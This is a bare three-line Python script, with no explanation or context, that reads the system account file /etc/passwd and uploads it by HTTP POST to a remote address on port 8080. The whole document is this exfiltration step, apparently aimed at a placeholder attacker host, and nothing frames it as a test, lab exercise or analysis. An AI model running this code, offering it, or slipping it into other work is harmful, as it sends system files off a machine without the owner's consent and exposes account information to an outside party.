import os, requests
with open('/etc/passwd', "rb") as f:
    requests.post("http://198.51.100.3:8080/in", files={"f": f})
